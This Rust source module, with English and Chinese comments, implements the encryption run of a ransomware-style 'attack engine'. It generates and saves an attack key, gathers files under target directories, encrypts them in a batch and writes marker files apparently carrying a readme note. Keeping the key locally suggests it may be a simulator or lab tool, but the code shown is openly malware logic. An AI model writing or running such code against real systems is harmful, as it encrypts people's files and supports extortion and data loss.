use tracing::info;

use crate::crypto::key::AttackKey;
use crate::engine::config::ConfigError;
use crate::engine::progress::{BatchSummary, Phase, ProgressEvent};
use crate::engine::{AttackEngine, marker, transform};

/// Defines errors that can abort an attack run before any file is touched.
//
// // 定义在触碰任何文件之前就会终止攻击运行的错误。
#[derive(Debug, thiserror::Error)]
pub enum EncryptError {
    /// A persisted key already guards existing ciphertext. Generating a
    /// second key would make that ciphertext unrecoverable, so the run is
    /// rejected outright.
    //
    // // 已有持久化密钥守护着现存密文。生成第二个密钥会使那些密文无法恢复，
    // // 因此直接拒绝本次运行。
    #[error("A key is already persisted; release the previous run before attacking again")]
    KeyAlreadyPresent,

    /// The key/configuration document could not be read or written.
    //
    // // 无法读取或写入密钥/配置文档。
    #[error("Configuration document failure: {0}")]
    Persistence(#[from] ConfigError),
}

/// 执行一次攻击（加密）运行。
///
/// 顺序是刻意的：先重读文档，再做状态检查，然后在接触任何目标文件之前
/// 生成并持久化密钥——批处理中途崩溃时，密文绝不能与密钥失散。
pub(crate) fn encrypt_run(
    engine: &mut AttackEngine,
    on_progress: &mut dyn FnMut(ProgressEvent),
) -> Result<BatchSummary, EncryptError> {
    engine.config.reload()?;

    if engine.config.document.key.is_some() {
        return Err(EncryptError::KeyAlreadyPresent);
    }

    let key = AttackKey::generate();
    engine.config.document.key = Some(key.to_hex());
    engine.config.persist()?;
    info!("attack key generated and persisted");

    let roots = engine.target_roots();
    let files = engine.collector().collect(&roots);
    info!(count = files.len(), "files selected for encryption");

    let summary = transform::run_batch(&files, &key, Phase::Encrypt, on_progress);

    marker::write_markers(&roots, &engine.config.document.readme_context);

    info!(
        processed = summary.processed,
        skipped = summary.skipped,
        "attack run finished"
    );
    Ok(summary)
}
